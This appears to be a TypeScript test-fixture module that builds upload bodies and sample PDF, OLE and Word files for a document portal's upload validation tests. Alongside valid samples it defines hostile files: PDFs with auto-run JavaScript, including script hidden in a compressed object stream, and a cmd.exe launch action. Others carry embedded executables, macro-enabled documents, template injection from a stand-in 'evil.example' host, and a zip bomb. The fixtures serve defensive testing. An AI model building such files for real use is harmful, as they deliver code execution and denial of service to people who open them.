// Upload bodies and sample files for the application's document tests.
import { randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync } from 'node:zlib';

const BOUNDARY = '----portal-documents-test';

/** A multipart body with the fields in order (kind first, then the file), as the web client sends it. */
export function multipartBody(parts: Array<{ name: string; value: string } | { name: string; filename: string; content: Buffer; type?: string }>) {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    if ('filename' in part) {
      chunks.push(
        Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.name}"; filename="${part.filename}"\r\nContent-Type: ${part.type ?? 'application/octet-stream'}\r\n\r\n`),
        part.content,
        Buffer.from('\r\n'),
      );
    } else {
      chunks.push(Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`));
    }
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` } };
}

export const upload = (kind: string, filename: string, content: Buffer) =>
  multipartBody([
    { name: 'kind', value: kind },
    { name: 'file', filename, content },
  ]);

/**
 * A PDF with the given objects (1 is the catalogue), a cross-reference table with their true offsets and a trailer.
 * `trailer` adds keys to the trailer; `tail: false` leaves out the cross-reference, trailer and %%EOF (a truncated file).
 */
export function makePdf(objects: string[], { trailer = '', tail = true }: { trailer?: string; tail?: boolean } = {}): Buffer {
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  if (tail) {
    const xref = out.length;
    out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
    out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  }
  return Buffer.from(out, 'latin1');
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>';
export const PDF = makePdf([CATALOG, PAGES, PAGE]);

/** A valid PDF of exactly `size` bytes (the rest is a stream of random bytes). */
export function pdfOfSize(size: number): Buffer {
  const overhead = makePdf([CATALOG, PAGES, PAGE, '<< /Length 0000000 >>\nstream\n\nendstream']).length;
  const n = size - overhead;
  return makePdf([CATALOG, PAGES, PAGE, `<< /Length ${String(n).padStart(7, '0')} >>\nstream\n${randomBytes(n).toString('latin1')}\nendstream`]);
}

/** PDFs that act when opened or carry files (each otherwise well formed). */
export const HOSTILE_PDFS = {
  javascript: makePdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, PAGE, "<< /S /JavaScript /JS (app.alert\\('hi'\\)) >>"]),
  escapedJavascript: makePdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, PAGE, '<< /S /J#61vaScript /J#53 4 0 R >>']),
  launch: makePdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, PAGE, '<< /S /Launch /F (cmd.exe) >>']),
  embeddedFile: makePdf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>',
    PAGES,
    PAGE,
    '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  ]),
  /** The script inside a compressed object stream, where no substring search sees it. */
  scriptInObjectStream: (() => {
    const inner = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    const packed = deflateSync(Buffer.from(`4 0 ${inner}`, 'latin1'));
    return makePdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      PAGES,
      PAGE,
      `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`,
    ]);
  })(),
  truncated: makePdf([CATALOG, PAGES, PAGE], { tail: false }),
  encrypted: makePdf([CATALOG, PAGES, PAGE, '<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'], { trailer: '/Encrypt 4 0 R ' }),
};

/**
 * A version-3 OLE compound file (512-byte sectors) whose root holds the given streams, each padded to at least
 * 4,096 bytes (so it lives in regular sectors): header, one FAT sector, one directory sector, then the streams.
 */
export function makeCfb(streams: Array<{ name: string; content: Buffer }>): Buffer {
  const SECTOR = 512;
  const END = 0xfffffffe;
  const FREE = 0xffffffff;
  const bodies = streams.map((s) => Buffer.concat([s.content, Buffer.alloc(Math.max(0, 4096 - s.content.length))]));
  const padded = bodies.map((b) => Buffer.concat([b, Buffer.alloc((SECTOR - (b.length % SECTOR)) % SECTOR)]));
  const fat = Buffer.alloc(SECTOR, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0: the FAT itself
  fat.writeUInt32LE(END, 4); // sector 1: the directory
  let next = 2;
  const starts: number[] = [];
  for (const body of padded) {
    const count = body.length / SECTOR;
    starts.push(next);
    for (let i = 0; i < count; i++) fat.writeUInt32LE(i === count - 1 ? END : next + i + 1, (next + i) * 4);
    next += count;
  }
  if (next > SECTOR / 4) throw new Error('makeCfb: too many sectors for one FAT sector');
  const header = Buffer.alloc(SECTOR);
  OLE.copy(header, 0);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c); // one FAT sector
  header.writeUInt32LE(1, 0x30); // the directory's first sector
  header.writeUInt32LE(4096, 0x38);
  header.writeUInt32LE(END, 0x3c); // no mini FAT
  header.writeUInt32LE(END, 0x44); // no DIFAT sectors
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : FREE, 0x4c + i * 4);
  const dir = Buffer.alloc(SECTOR);
  const entry = (index: number, name: string, type: number, child: number, right: number, start: number, size: number) => {
    const off = index * 128;
    const encoded = Buffer.from(`${name}\0`, 'utf16le');
    encoded.copy(dir, off);
    dir.writeUInt16LE(encoded.length, off + 0x40);
    dir[off + 0x42] = type;
    dir[off + 0x43] = 1;
    dir.writeUInt32LE(FREE, off + 0x44);
    dir.writeUInt32LE(right, off + 0x48);
    dir.writeUInt32LE(child, off + 0x4c);
    dir.writeUInt32LE(start, off + 0x74);
    dir.writeUInt32LE(size, off + 0x78);
  };
  if (streams.length > 3) throw new Error('makeCfb: at most 3 streams');
  entry(0, 'Root Entry', 5, streams.length ? 1 : FREE, FREE, END, 0);
  streams.forEach((s, i) => entry(i + 1, s.name, 2, FREE, i + 1 < streams.length ? i + 2 : FREE, starts[i]!, bodies[i]!.length));
  for (let i = streams.length + 1; i < 4; i++) {
    dir.writeUInt32LE(FREE, i * 128 + 0x44);
    dir.writeUInt32LE(FREE, i * 128 + 0x48);
    dir.writeUInt32LE(FREE, i * 128 + 0x4c);
  }
  return Buffer.concat([header, fat, dir, ...padded]);
}

const OLE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
/** A Word FIB's first bytes (wIdent 0xA5EC, nFib 0x00C1). */
const FIB = Buffer.from([0xec, 0xa5, 0xc1, 0x00]);
export const DOC = makeCfb([{ name: 'WordDocument', content: FIB }, { name: '1Table', content: Buffer.alloc(16) }]);
/** OLE files that are not Word documents. */
export const HOSTILE_OLE = {
  /** An OLE package carrying an executable, no WordDocument stream. */
  packagedExe: makeCfb([{ name: '\u0001Ole10Native', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600, 0x90)]) }]),
  /** A "WordDocument" stream that is not a Word FIB. */
  notAFib: makeCfb([{ name: 'WordDocument', content: Buffer.from('MZ this is not a FIB') }]),
  /** Just the header: no FAT, no directory. */
  headerOnly: Buffer.concat([OLE, Buffer.alloc(512)]),
};

// ---- a minimal zip writer (stored or deflated entries), so tests build real and hostile archives ----

function crc32(buf: Buffer): number {
  let crc = ~0;
  for (const byte of buf) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

export type ZipEntry = { name: string; content: Buffer; deflate?: boolean; declaredSize?: number };

export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const data = e.deflate ? deflateRawSync(e.content) : e.content;
    const size = e.declaredSize ?? e.content.length;
    const crc = crc32(e.content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(e.deflate ? 8 : 0, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.deflate ? 8 : 0, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A Word package: content types, the package relationships, the main part, and any extra parts. */
export function makeDocx({ mainType = WORD_MAIN, extra = [] as ZipEntry[], overrides = '' } = {}): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      content: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
          `<Override PartName="/word/document.xml" ContentType="${mainType}"/>${overrides}</Types>`,
      ),
      deflate: true,
    },
    {
      name: '_rels/.rels',
      content: Buffer.from(
        `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
      ),
      deflate: true,
    },
    { name: 'word/document.xml', content: Buffer.from('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'), deflate: true },
    ...extra,
  ]);
}

export const DOCX = makeDocx();

export const HOSTILE_DOCX = {
  /** A .docm: the macro-enabled main part and its VBA project. */
  macroEnabled: makeDocx({
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    overrides: '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    extra: [{ name: 'word/vbaProject.bin', content: Buffer.from('vba') }],
  }),
  /** A Word main part with a VBA project beside it. */
  vbaProject: makeDocx({ extra: [{ name: 'word/vbaProject.bin', content: Buffer.from('vba') }] }),
  /** Template injection: the settings fetch a template from elsewhere when the file opens. */
  externalTemplate: makeDocx({
    extra: [
      {
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from(
          `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
        ),
      },
    ],
  }),
  /** A spreadsheet's main part named by a package with Word's file name. */
  spreadsheet: makeDocx({ mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }),
};

/** A "docx" whose document part inflates to 10 MB from 10 kB (a compression ratio of about 1,000) (a zip bomb). */
let bomb: Buffer | undefined;
export const zipBomb = (): Buffer =>
  (bomb ??= zip([
  { name: '[Content_Types].xml', content: Buffer.from('<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>') },
  { name: 'word/document.xml', content: Buffer.alloc(10_000_000, 0x41), deflate: true },
  ]));
